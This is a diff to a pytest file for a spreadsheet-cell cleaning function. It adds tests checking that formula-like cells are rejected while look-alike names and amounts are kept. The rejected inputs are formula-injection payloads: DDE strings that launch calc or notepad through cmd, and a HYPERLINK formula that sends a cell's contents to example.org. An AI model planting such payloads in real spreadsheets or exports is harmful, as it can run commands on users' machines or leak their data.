@@ -79,3 +79,31 @@ def test_free_text_may_be_longer_than_a_name() -> None:
     assert clean("job_title", "mot " * 400 + "x", locale=FRANCE).note != "too long"
     assert clean("given_name", " " * 3000 + "Anne", locale=FRANCE).value == "Anne"
     assert clean("given_name", "Anne " * 101, locale=FRANCE) == Cleaned(None, "too long")
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://example.org/?"&A1,"here")',
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "=cmd|'/C notepad'!'A1'",
+        "-2+3+cmd|' /C calc'!A0",
+        '+HYPERLINK("http://example.org")',
+    ],
+)
+@pytest.mark.parametrize("field", ["family_name", "email", "street_address", "amount", "source_id"])
+def test_a_formula_is_nobodys_value(field: str, cell: str) -> None:
+    assert clean(field, cell, locale=Locale()) == Cleaned(None, "a formula, not a value")
+
+
+@pytest.mark.parametrize(
+    ("field", "cell", "value"),
+    [
+        ("telephone", "+33 (0)1 99 00 12 34", "+33199001234"),
+        ("amount", "-12,50", "-12.50"),
+        ("street_address", "- 12 rue des Lilas (fond)", "- 12 rue des Lilas (fond)"),
+        ("family_name", "=Paz", "=Paz"),
+    ],
+)
+def test_what_only_begins_like_a_formula_is_read(field: str, cell: str, value: str) -> None:
+    assert clean(field, cell, locale=Locale()).value == value
